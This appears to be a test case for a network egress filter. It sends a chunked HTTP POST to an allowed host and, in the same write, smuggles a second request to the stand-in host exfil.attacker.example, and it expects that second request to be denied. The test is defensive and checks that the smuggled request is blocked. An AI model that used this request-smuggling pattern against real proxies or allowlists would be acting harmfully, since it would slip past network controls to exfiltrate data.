# what: a second request for exfil.attacker.example after the end of a chunked body, in the same write
# include: http
# expect-allowed: allowed.test http
# expect-denied: exfil.attacker.example 80 http host_changed
# inet: allow allowed.test
# expect-stdout: (?s)STATUS: HTTP/1.1 200 OK\nPAGE: hello from allowed.test\nSTATUS: HTTP/1.1 403 Forbidden
import socket


report(exchange("198.18.1.10", 80, b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nGET /exfil HTTP/1.1\r\nHost: exfil.attacker.example\r\n\r\n"))
